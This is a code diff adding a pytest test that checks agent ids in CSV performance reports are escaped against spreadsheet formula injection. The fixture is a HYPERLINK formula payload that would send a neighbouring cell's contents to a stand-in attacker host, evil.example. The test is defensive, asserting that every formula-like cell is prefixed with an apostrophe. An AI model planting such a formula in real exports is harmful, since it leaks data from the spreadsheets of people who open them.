@@ -257,3 +257,18 @@ def test_score_bands_without_a_band_or_with_a_floor_off_the_scale_are_refused(
     """No band made every security report fail; a floor of NaN put no agent in its band."""
     with pytest.raises(ValidationError, match=message):
         Settings(report_score_bands=bands)
+
+
+def test_what_agents_named_is_text_in_a_csv_report_never_a_formula(fleet, reports_settings):
+    """An agent chooses its id: ``=HYPERLINK(…)`` in a CSV report ran as a formula when an
+    operator opened it in a spreadsheet, and could send neighbouring cells away (found by a
+    review). Every cell that a spreadsheet would read as a formula starts with ``'``."""
+    api, client = fleet
+    named = '=HYPERLINK("https://evil.example/?t="&B2,"open me")'
+    client.insert("metrics", [heartbeat(named, "t1", 1200, 10.0, 0.01, 5, 0)],
+                  column_names=METRIC_COLUMNS,
+                  database=reports_settings.clickhouse_database)  # fmt: skip
+    answer = api.get("/api/v1/reports/performance", params={"tenant": "t1", "format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(answer.text)))
+    assert "'" + named in [r["agent_id"] for r in rows]
+    assert not any(c.startswith(("=", "+", "-", "@")) for r in rows for c in r.values())
